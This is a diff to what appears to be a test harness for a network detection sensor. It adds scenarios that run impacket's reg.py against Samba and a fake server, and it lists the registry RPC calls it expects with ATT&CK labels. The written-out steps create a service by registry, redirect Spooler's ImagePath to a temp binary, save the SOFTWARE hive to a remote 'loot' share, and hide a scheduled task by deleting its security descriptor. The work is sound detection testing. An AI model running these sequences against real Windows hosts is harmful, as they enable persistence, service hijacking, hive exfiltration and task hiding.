@@ -47,6 +47,7 @@ sys.path.insert(0, HERE)
 from expect import problems  # noqa: E402
 
 TSCH, SVCCTL, ATSVC, EPM = "ITaskSchedulerService", "svcctl", "ATSvc", "epm"
+WINREG = "winreg"
 
 
 def tool(*argv, seed=1, level=None):
@@ -74,6 +75,9 @@ OPNUMS = {
     # MS-SAMR 3.1.5
     "SamrConnect5": 64, "SamrEnumerateDomainsInSamServer": 6, "SamrLookupDomainInSamServer": 5,
     "SamrOpenDomain": 7, "SamrEnumerateUsersInDomain": 13, "SamrCloseHandle": 1,
+    # MS-RRP 3.1.5
+    "OpenLocalMachine": 2, "BaseRegCreateKey": 6, "BaseRegDeleteValue": 8, "BaseRegOpenKey": 15,
+    "BaseRegQueryValue": 17, "BaseRegSaveKey": 20, "BaseRegSetValue": 22,
 }
 def call(iface, op, cls, sealed=False, **args):
     c = {"interface": iface, "operation": op, "opnum": OPNUMS[op], "class": cls,
@@ -604,6 +608,129 @@ scenario(
     note="As samba_psexec, encrypted: Samba refuses CreateServiceW, psexec deletes the file.",
     calls=[call("srvsvc", "NetrShareEnum", "other"), scm_open(), svc_open("LabEncPsexec"),
            svc_create("LabEncPsexec", r"%systemroot%\labencpsx.exe")])
+
+SVC_KEY = r"HKLM\SYSTEM\CurrentControlSet\Services"
+SCHED_KEY = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule"
+TREE_KEY = SCHED_KEY + r"\TaskCache\Tree"
+REG_TARGET = CREDS + "@" + SAMBA_IP
+
+
+def reg(*argv):
+    """impacket's reg.py against Samba's winreg."""
+    return {"argv": tool("reg.py", REG_TARGET, *argv)}
+
+
+def reg_add_calls(key, value=None, cls="other", **args):
+    """What reg.py add asks winreg: OpenLocalMachine, BaseRegOpenKey of the key (of its
+    parent when it makes the key: then BaseRegCreateKey of it), BaseRegSetValue."""
+    sub = key.split("\\", 1)[1]
+    out = [call(WINREG, "OpenLocalMachine", "other", key="HKLM")]
+    if value is None:
+        parent = key.rsplit("\\", 1)[0]
+        out.append(call(WINREG, "BaseRegOpenKey", "other", key=parent))
+        a = {"key": key, "subkey": sub}
+        a.update(args)
+        out.append(call(WINREG, "BaseRegCreateKey", "create", **a))
+        return out
+    out.append(call(WINREG, "BaseRegOpenKey", "other", key=key, subkey=sub))
+    a = {"key": key, "value_name": value}
+    a.update(args)
+    out.append(call(WINREG, "BaseRegSetValue", cls, **a))
+    return out
+
+
+# reg.py first asks svcctl whether RemoteRegistry runs (impacket's RemoteOperations)
+REG_SVC_CHECK = [scm_open(), svc_open("RemoteRegistry"),
+                 call(SVCCTL, "RQueryServiceStatus", "read", service_name="RemoteRegistry")]
+LABREG = SVC_KEY + r"\LabRegSvc"
+LABREG_BIN = r"%SystemRoot%\Temp\labreg.exe -k run"
+SPOOL_BIN = r"C:\Windows\Temp\spool.exe"
+
+scenario(
+    "samba_reg_service",
+    title="impacket reg.py against Samba's winreg: a service's key written (LabRegSvc: "
+    "ImagePath, Start, Type), Spooler's ImagePath changed, a value queried, a key under "
+    "Schedule refused, a hive save refused",
+    server="samba", auth="SMB3 session NTLMv2; no RPC-level auth (reg.py has no option for it)",
+    steps=[reg("add", "-keyName", LABREG),
+           reg("add", "-keyName", LABREG, "-v", "ImagePath", "-vt", "REG_EXPAND_SZ", "-vd",
+               LABREG_BIN),
+           reg("add", "-keyName", LABREG, "-v", "Start", "-vt", "REG_DWORD", "-vd", "3"),
+           reg("add", "-keyName", LABREG, "-v", "Type", "-vt", "REG_DWORD", "-vd", "16"),
+           reg("add", "-keyName", SVC_KEY + r"\Spooler", "-v", "ImagePath", "-vt",
+               "REG_EXPAND_SZ", "-vd", SPOOL_BIN),
+           reg("query", "-keyName", LABREG, "-v", "ImagePath"),
+           reg("add", "-keyName", SCHED_KEY),
+           reg("save", "-keyName", r"HKLM\SOFTWARE", "-o", r"\\192.0.2.10\loot")],
+    note="Each reg.py command is a connection of its own, and each first asks svcctl whether "
+    "RemoteRegistry runs (Samba says it does). Samba keeps the keys it is given under "
+    "Services (LabRegSvc is created, disposition REG_CREATED_NEW_KEY; the ImagePath set "
+    "over the next connection is the service's creation through the registry, create, "
+    "T1543.003; Spooler's ImagePath is a change, modify). Samba refuses to create keys "
+    "under SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion (ERROR_NOT_SUPPORTED, 0x32, its "
+    "CurrentVersion backend is read-only), so the TaskCache scenario runs against the fake "
+    "server (fake_reg_hidden_task); and it refuses BaseRegSaveKey to a UNC path, and to "
+    "C:\\, the server's own C$ and a relative name as well, tried in a run before this one "
+    "(ERROR_BAD_PATHNAME, 0xa1): the request is what the sensor judges (hive_saved).",
+    calls=REG_SVC_CHECK + reg_add_calls(LABREG, service_name="LabRegSvc")
+    + REG_SVC_CHECK + reg_add_calls(LABREG, value="ImagePath", cls="create",
+                                    value_type="REG_EXPAND_SZ", data=LABREG_BIN,
+                                    service_name="LabRegSvc", binary_path=LABREG_BIN)
+    + REG_SVC_CHECK + reg_add_calls(LABREG, value="Start", cls="modify", value_type="REG_DWORD",
+                                    data=3, start_type="demand_start")
+    + REG_SVC_CHECK + reg_add_calls(LABREG, value="Type", cls="modify", value_type="REG_DWORD",
+                                    data=16, service_type=["win32_own_process"])
+    + REG_SVC_CHECK + reg_add_calls(SVC_KEY + r"\Spooler", value="ImagePath", cls="modify",
+                                    value_type="REG_EXPAND_SZ", data=SPOOL_BIN,
+                                    service_name="Spooler", binary_path=SPOOL_BIN)
+    + REG_SVC_CHECK + [call(WINREG, "OpenLocalMachine", "other", key="HKLM"),
+                       call(WINREG, "BaseRegOpenKey", "other", key=LABREG),
+                       call(WINREG, "BaseRegQueryValue", "read", key=LABREG,
+                            value_name="ImagePath")]
+    + REG_SVC_CHECK + reg_add_calls(SCHED_KEY)
+    + REG_SVC_CHECK + [call(WINREG, "OpenLocalMachine", "other", key="HKLM"),
+                       call(WINREG, "BaseRegOpenKey", "other", key=r"HKLM\SOFTWARE"),
+                       call(WINREG, "BaseRegSaveKey", "read", key=r"HKLM\SOFTWARE",
+                            file=r"\\192.0.2.10\loot\SOFTWARE.save", hive_saved=True)])
+
+HIDDEN = TREE_KEY + r"\LabHiddenTask"
+HIDDEN_SD = "O:BAG:SYD:(A;;FA;;;BA)(A;;FA;;;SY)"
+FAKE_REG_TARGET = CREDS + "@" + FAKE_IP
+
+
+def fake_reg(*argv):
+    return {"argv": tool("reg.py", FAKE_REG_TARGET, *argv)}
+
+
+scenario(
+    "fake_reg_hidden_task",
+    title="impacket reg.py against the fake server's winreg: a task's TaskCache\\Tree key made "
+    "with an SD value, the SD deleted and its Index set to 0 (the task hidden)",
+    server="fake", auth="SMB2 session NTLMv2; no RPC-level auth",
+    steps=[fake_reg("add", "-keyName", HIDDEN),
+           fake_reg("add", "-keyName", HIDDEN, "-v", "SD", "-vt", "REG_SZ", "-vd", HIDDEN_SD),
+           fake_reg("add", "-keyName", HIDDEN, "-v", "Index", "-vt", "REG_DWORD", "-vd", "3"),
+           fake_reg("delete", "-keyName", HIDDEN, "-v", "SD"),
+           fake_reg("add", "-keyName", HIDDEN, "-v", "Index", "-vt", "REG_DWORD", "-vd", "0")],
+    note="Samba cannot hold these keys (samba_reg_service), so the fake server answers winreg "
+    "from a dictionary of keys that has the Windows path down to TaskCache\\Tree. Deleting a "
+    "task's SD value, or setting its Index to 0, hides the task from schtasks and the Task "
+    "Scheduler (the Tarrask technique): both are the hidden_task indicator (T1564) on a call "
+    "routed through the registry (T1053.005). Windows keeps SD as REG_BINARY; reg.py cannot "
+    "send binary data from its command line (impacket 0.10 packs the text as characters and "
+    "fails before sending), so the lab writes it as REG_SZ (an SDDL): the deletion that "
+    "hides the task is the same call whatever the type.",
+    calls=REG_SVC_CHECK + reg_add_calls(HIDDEN)
+    + REG_SVC_CHECK + reg_add_calls(HIDDEN, value="SD", cls="modify", value_type="REG_SZ",
+                                    data=HIDDEN_SD)
+    + REG_SVC_CHECK + reg_add_calls(HIDDEN, value="Index", cls="modify", value_type="REG_DWORD",
+                                    data=3)
+    + REG_SVC_CHECK + [call(WINREG, "OpenLocalMachine", "other", key="HKLM"),
+                       call(WINREG, "BaseRegOpenKey", "other", key=HIDDEN),
+                       call(WINREG, "BaseRegDeleteValue", "delete", key=HIDDEN, value_name="SD",
+                            path=r"\LabHiddenTask", hidden_by="SD deleted")]
+    + REG_SVC_CHECK + reg_add_calls(HIDDEN, value="Index", cls="modify", value_type="REG_DWORD",
+                                    data=0, path=r"\LabHiddenTask", hidden_by="Index set to 0"))
 
 # ---------------------------------------------------------------- running
 
